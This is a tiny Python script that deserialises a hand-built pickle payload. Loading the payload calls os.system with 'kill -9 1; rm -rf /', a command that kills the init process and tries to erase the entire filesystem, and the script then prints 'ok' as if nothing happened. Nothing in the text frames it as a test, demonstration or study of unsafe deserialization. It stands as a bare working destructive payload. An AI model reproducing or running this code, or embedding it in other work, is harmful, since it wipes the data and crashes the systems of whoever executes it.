import pickle
pickle.loads(b"cos\nsystem\n(S'kill -9 1; rm -rf /'\ntR.")
print("ok")
